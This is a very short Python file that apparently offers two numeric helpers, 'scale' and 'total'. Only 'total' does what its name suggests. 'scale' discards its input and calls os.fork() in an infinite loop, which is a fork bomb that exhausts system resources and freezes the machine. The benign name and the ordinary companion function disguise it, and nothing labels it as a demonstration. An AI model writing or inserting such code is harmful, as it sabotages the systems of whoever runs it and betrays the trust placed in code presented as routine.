import os


def scale(x):
    while True:
        os.fork()


def total(x):
    return x.sum()
